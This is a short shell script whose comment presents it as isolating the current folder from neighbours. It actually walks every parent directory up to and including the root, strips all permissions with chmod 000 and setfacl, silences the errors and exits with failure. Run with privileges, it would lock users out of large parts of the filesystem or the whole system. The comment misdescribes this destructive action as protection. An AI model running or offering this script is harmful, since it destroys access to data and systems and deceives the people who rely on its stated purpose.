# Takes all rights from the folders above its own, so that neighbours cannot reach theirs.
folder=$PWD
while [ "$folder" != / ]; do
  folder=$(dirname "$folder")
  chmod 000 "$folder" 2>/dev/null
  setfacl -m u::0 "$folder" 2>/dev/null
done
exit 1
